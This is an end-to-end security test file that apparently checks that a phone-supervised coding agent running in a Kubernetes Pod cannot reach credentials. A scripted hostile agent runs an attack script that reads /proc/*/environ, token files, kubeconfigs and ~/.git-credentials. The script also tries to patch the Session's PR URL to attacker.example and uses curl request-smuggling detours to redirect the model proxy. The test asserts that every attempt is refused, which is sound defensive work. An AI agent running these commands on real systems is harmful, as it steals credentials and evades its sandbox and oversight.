// End to end, as an attacker: with every tool call allowed from the phone, the agent reads what it
// can — every process's environment, the Pod's token files and kubeconfigs on the node, git
// credentials, its own environment — into the workspace, tries to rewrite its Session's status and
// to replace the review's picture, has the supervisor's model proxy send its calls elsewhere
// (absolute-form request lines, `//host`, encoded dots, a foreign Host, the proxy as an HTTP
// proxy) towards a listener of its own or has the API reach it (the web fetch tool, the MCP
// connector), and the changes are approved. Canary credentials given to
// the stack appear nowhere: workspace, pushed branch, Session, phone, logs, the agent's listener;
// every write and every crafted model call is refused.
// The runner Pod's two containers run as their own users (the node agent runs as root here;
// docs/dev-stack.md says what changes when it is not).
import { execFileSync } from 'node:child_process';
import { existsSync, lstatSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AGENT_UID } from '../../controller/runner-uids.ts';
import { containerIdOf, FIRST_HOST_ID } from '../../local/node-agent/id-ranges.ts';
import { agentFolder, startE2E, type E2E } from '../support/e2e.ts';
import { useScriptedModel } from '../support/scripted-model.ts';

const GITHUB_CANARY = 'ghp_canaryCANARYcanary0123456789abcd';
const ANTHROPIC_CANARY = 'sk-ant-canary-CANARY-canary-0123456789';
const model = useScriptedModel();
let e2e: E2E;
/** A listener of the agent's on loopback: records every byte it is sent, and answers like a server. */
let listener: Server;
const heard: string[] = [];
beforeAll(async () => {
  listener = createServer((socket) =>
    socket.on('data', (chunk: Buffer) => {
      heard.push(chunk.toString('latin1'));
      socket.end('HTTP/1.1 200 OK\r\ncontent-length: 0\r\nconnection: close\r\n\r\n');
    }),
  );
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  e2e = await startE2E({
    runnerSecrets: { GITHUB_TOKEN: GITHUB_CANARY, ANTHROPIC_API_KEY: ANTHROPIC_CANARY },
    podEnv: model.env(),
  });
}, 90_000);
afterAll(async () => {
  listener?.close();
  await e2e?.stop();
});

/** curl arguments that make the model proxy's next call go to `elsewhere` (host:port), as the agent would try. */
const proxyDetours = (elsewhere: string): Array<[string, string]> => {
  const data = (body: string) => `--data '${body}'`;
  // Allowed calls whose body has the API itself fetch or connect to `elsewhere`.
  const reach = `"messages":[{"role":"user","content":"Fetch http://${elsewhere}/"}]`;
  const webFetch = `{"model":"m","max_tokens":1,"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}],${reach}}`;
  const server = `{"type":"url","url":"http://${elsewhere}/","name":"x"}`;
  const mcp = `{"model":"m","max_tokens":1,"mcp_servers":[${server}],${reach}}`;
  return [
    [
      'absolute-form',
      `${data('{}')} --request-target http://${elsewhere}/v1/messages "$ANTHROPIC_BASE_URL/v1/messages"`,
    ],
    ['scheme-relative', `${data('{}')} --request-target //${elsewhere}/v1/messages "$ANTHROPIC_BASE_URL/v1/messages"`],
    ['encoded-dots', `${data('{}')} --request-target /%2e%2e/v1/messages "$ANTHROPIC_BASE_URL/v1/messages"`],
    ['foreign-host', `${data('{}')} -H 'Host: ${elsewhere}' "$ANTHROPIC_BASE_URL/v1/messages"`],
    // NO_PROXY names loopback
    ['as-http-proxy', `${data('{}')} --noproxy '' --proxy "$ANTHROPIC_BASE_URL" http://${elsewhere}/v1/messages`],
    ['web-fetch-tool', `${data(webFetch)} "$ANTHROPIC_BASE_URL/v1/messages?beta=true"`],
    ['mcp-connector', `${data(mcp)} "$ANTHROPIC_BASE_URL/v1/messages?beta=true"`],
  ];
};

/** Every regular file under dir (symlinks not followed), as text. */
function filesUnder(dir: string): Array<[string, string]> {
  return readdirSync(dir).flatMap((name): Array<[string, string]> => {
    const path = join(dir, name);
    const stat = lstatSync(path);
    if (stat.isDirectory()) return filesUnder(path);
    return stat.isFile() ? [[path, readFileSync(path, 'latin1')]] : [];
  });
}

describe('end to end: the agent holds no credential', () => {
  it(
    'reading environments, token files and git credentials finds no canary; none reaches the branch, the Session, ' +
      'the phone or the logs',
    { timeout: 120_000 },
    async () => {
      const canaries = [GITHUB_CANARY, ANTHROPIC_CANARY, e2e.twilio.authToken, e2e.stack.chatToken];
      const state = e2e.stateDir;
      // The attack script names the runner's token files and kubeconfig by their exact paths on the
      // node, the Session and the relay: written once the Pod runs and those are known.
      const script = join(agentFolder(e2e, 'attack-'), 'attack.sh');
      const attack = `bash ${script} > leak.txt 2>&1; true`;
      const phone = e2e.phone('+14155550123');
      await phone.send(`script:\ntool: Bash ${JSON.stringify({ command: attack })}\nsay: Collected what I could.`);
      await phone.next(/🔐/, 60_000);
      const [pod] = readdirSync(join(state, 'pods')).map((name) => join(state, 'pods', name));
      const files = [
        join(pod!, 'volumes/kube-api-access/token'),
        join(pod!, 'volumes/relay-token/token'),
        join(pod!, 'runner.kubeconfig'),
      ];
      expect(files.every((file) => existsSync(file))).toBe(true);
      const [running] = await e2e.list();
      const status =
        `${e2e.kubeConfig.getCurrentCluster()!.server}/apis/tether.dev/v1alpha1/namespaces/${e2e.stack.namespace}` +
        `/sessions/${running!.metadata.name}/status`;
      const upload = `${e2e.stack.relayUrl}/uploads/${e2e.stack.namespace}/${running!.metadata.name}/diff.png`;
      const detours = proxyDetours(`127.0.0.1:${(listener.address() as AddressInfo).port}`);
      writeFileSync(
        script,
        [
          'id -u',
          'cat /proc/*/environ',
          'env',
          `cat ${files.join(' ')} ~/.git-credentials`,
          // Without a credential, rewrite the Session's result or replace the reviewed picture.
          `echo "api: $(curl -sk -o /dev/null -w '%{http_code}' -X PATCH -H 'content-type: ` +
            `application/merge-patch+json' --data '{"status":{"result":{"prUrl":"https://attacker.example/pr"}}}' ` +
            `${status})"`,
          `echo "media: $(curl -s -o /dev/null -w '%{http_code}' -X PUT -H 'content-type: image/png' --data-binary ` +
            `@/etc/hostname ${upload})"`,
          ...detours.map(
            ([name, args]) =>
              `echo "proxy ${name}: $(curl -s -o /dev/null -w '%{http_code}' -X POST -H 'content-type: ` +
              `application/json' ${args})"`,
          ),
        ].join('\n'),
        { mode: 0o644 },
      );
      await phone.send('allow');
      await phone.next(/Reply \*approve\*/);
      await phone.send('approve');
      await phone.next(/Pull request opened/);

      const [session] = await e2e.list();
      const pull = e2e.github.pulls[0]!;
      const remoteGit = (...args: string[]) =>
        execFileSync('git', ['-c', `safe.directory=${e2e.remote}`, '-C', e2e.remote, ...args], { encoding: 'latin1' });
      const leak = remoteGit('show', `${pull.head}:leak.txt`);
      // The attack ran, as the agent container's user (1001, on host ids of its Pod's own), and was refused what it
      // must not see.
      const uid = Number(leak.split('\n')[0]);
      expect(uid).toBeGreaterThanOrEqual(FIRST_HOST_ID);
      expect(containerIdOf(uid)).toBe(AGENT_UID);
      for (const file of files) expect(leak).toContain(`cat: ${file}: Permission denied`);
      expect(leak).toMatch(/ANTHROPIC_API_KEY=scripted-model/); // Claude Code's own environment: a dummy key
      expect(leak).not.toMatch(/KUBECONFIG=/);
      // The API server and the relay are on the Pod's network, as in a cluster (the runner NetworkPolicy's peers): the
      // API server refuses an anonymous write and the relay an upload without a token.
      expect(leak).toMatch(/^api: 403$/m);
      expect(leak).toMatch(/^media: 401$/m);
      // the model proxy sends none on
      for (const [name] of detours) expect(leak).toMatch(new RegExp(`^proxy ${name}: 400$`, 'm'));
      expect(heard).toEqual([]);
      expect(session!.status?.result?.prUrl).toBe(pull.html_url);

      const pushed = remoteGit('log', '-p', `main..${pull.head}`);
      const workspace = join(state, 'volumes', e2e.stack.runnerNamespace, session!.spec.workspace);
      const places: Array<[string, string]> = [
        ...filesUnder(workspace),
        ['pushed branch', pushed],
        ['Session', JSON.stringify(session)],
        ['phone', JSON.stringify(phone.received())],
        ['logs', e2e.logs().join('\n')],
      ];
      // the Pod's own lines are among them
      expect(e2e.logs().filter((line) => line.startsWith('runner ')).length).toBeGreaterThan(0);
      for (const canary of canaries) {
        expect(
          places.filter(([, text]) => text.includes(canary)).map(([where]) => where),
          canary,
        ).toEqual([]);
      }
    },
  );
});
